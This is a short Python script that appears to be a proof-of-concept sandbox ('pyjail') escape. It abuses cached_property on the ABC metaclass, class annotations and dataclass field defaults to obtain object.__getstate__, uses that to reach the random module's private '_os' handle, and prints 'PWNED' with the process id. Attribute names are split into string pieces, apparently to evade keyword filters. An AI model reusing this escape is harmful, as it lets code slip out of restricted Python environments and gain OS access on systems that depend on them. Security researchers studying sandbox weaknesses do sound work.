import abc
import dataclasses
import functools
import random

class A(abc.ABC):
    a: int = 0

def f(c):
    return None

cp = functools.cached_property(f)
cp.attrname = "__annot" + "ations__"
type(abc.ABC).foo = cp
ann = A.foo
print(type(ann), ann)
ann["__get" + "state__"] = int
dataclasses.dataclass(init=False, repr=False, eq=False, match_args=False)(A)
gs = [x for x in dataclasses.fields(A) if x.name != "a"][0].default
print(gs)
print("PW" + "NED", gs(random)["_o" + "s"].getpid())
